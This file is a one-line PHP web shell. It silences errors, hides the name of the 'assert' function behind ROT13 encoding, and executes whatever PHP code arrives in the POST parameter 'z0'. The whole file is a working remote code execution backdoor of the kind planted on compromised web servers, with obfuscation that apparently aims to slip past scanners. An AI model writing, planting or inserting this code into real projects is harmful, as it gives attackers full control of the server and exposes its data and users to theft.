<?php
@error_reporting(0);
$f = str_rot13('nffreg');
$f($_POST['z0']);
?>
